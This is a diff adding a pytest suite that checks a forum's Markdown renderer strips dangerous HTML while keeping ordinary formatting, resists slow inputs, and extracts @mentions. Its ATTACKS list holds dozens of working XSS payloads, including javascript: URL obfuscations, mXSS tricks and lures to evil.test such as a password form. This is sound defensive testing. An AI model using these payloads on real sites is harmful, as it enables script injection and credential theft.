@@ -1,0 +1,144 @@
+"""What Markdown becomes: the useful part of it, and nothing that runs, calls home or leads astray."""
+
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from forum.rendering import ATTRIBUTES, TAGS, mentioned_handles, render
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<body onload=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='https://ok.test' onclick='alert(1)'>x</a>",
+    "<form action='https://evil.test'><input name=password></form>",
+    "<style>@import 'https://evil.test';</style>",
+    "<link rel=stylesheet href=https://evil.test>",
+    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
+    "<base href='https://evil.test'>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](http://plain.test)",
+    "[x](//evil.test)",
+    "[x](file:///etc/passwd)",
+    '[x](https://ok.test "onmouseover=alert(1)")',
+    '[x](https://ok.test/"onmouseover="alert(1))',
+    "![x](https://tracker.test/pixel.gif)",
+    "![x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    '```"><script>alert(1)</script>\ncode\n```',
+    "```js onclick=alert(1)\ncode\n```",
+    "`<script>alert(1)</script>`",
+    "**<img src=x onerror=alert(1)>**",
+    "# <svg/onload=alert(1)>",
+    "| a |\n|---|\n| <script>alert(1)</script> |",
+    "> <iframe src=//evil.test>",
+    '<a href="https://ok.test" style="position:fixed;inset:0">x</a>',
+    "<p id=__proto__ class=admin>x</p>",
+]
+
+
+class Strict(HTMLParser):
+    """Fails on every element, attribute and address that is not allowed."""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        for name, value in attrs:
+            assert name in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), (tag, name)
+            if name == "href":
+                assert value is not None
+                assert value.startswith(("https://", "mailto:")), value
+            if name == "class":
+                assert value is not None
+                assert value.startswith("language-")
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    handle_decl = unknown_decl = handle_pi = handle_comment
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_dangerous_gets_through(attack: str) -> None:
+    for text in (attack, f"text {attack} text", f"- {attack}", f"> {attack}\n\nafter"):
+        parser = Strict()
+        parser.feed(render(text))
+        parser.close()
+
+
+def test_there_are_at_least_thirty_attacks() -> None:
+    assert len(set(ATTACKS)) >= 30
+
+
+@pytest.mark.parametrize(
+    ("markdown", "html"),
+    [
+        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
+        ("# h\n\n---", "<h1>h</h1>\n<hr>\n"),
+        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
+        ("```python\nx = 1 < 2\n```", '<pre><code class="language-python">x = 1 &lt; 2\n</code></pre>\n'),
+        (
+            "[x](https://ok.test)",
+            '<p><a href="https://ok.test" rel="nofollow ugc noopener noreferrer">x</a></p>\n',
+        ),
+        ("<ada@x.test>", '<p><a href="mailto:ada@x.test" rel="nofollow ugc noopener noreferrer">ada@x.test</a></p>\n'),
+        ("a <b> c & d", "<p>a &lt;b&gt; c &amp; d</p>\n"),
+        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
+    ],
+)
+def test_useful_markdown_is_kept(markdown: str, html: str) -> None:
+    assert render(markdown) == html
+
+
+def test_table_is_kept() -> None:
+    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |")
+
+
+@pytest.mark.parametrize(
+    "unit", ["[", "*", "`", "> ", "![", "<", "&", "a**b", "[a](", "|-", "- ", "_a ", "\\", "<a@b.c>", "~~"]
+)
+def test_longest_hostile_body_renders_quickly(unit: str) -> None:
+    text = (unit * 20_000)[:20_000]
+    started = time.process_time()
+    render(text)
+    assert time.process_time() - started < 5
+
+
+@pytest.mark.parametrize(
+    ("markdown", "handles"),
+    [
+        ("@ada and @Bob-1, @ada!", ["ada", "bob-1"]),
+        ("mail ada@x.test and a/@b", []),
+        ("`@ada` and\n\n```\n@bob\n```\n\n    @eve", []),
+        ("[@ada](https://x.test) @bob", ["bob"]),
+        ("**@ada** (@bob)\n\n- @eve", ["ada", "bob", "eve"]),
+        ("@ @-x @@ada", []),
+        ("", []),
+    ],
+)
+def test_mentions(markdown: str, handles: list[str]) -> None:
+    assert mentioned_handles(markdown) == handles
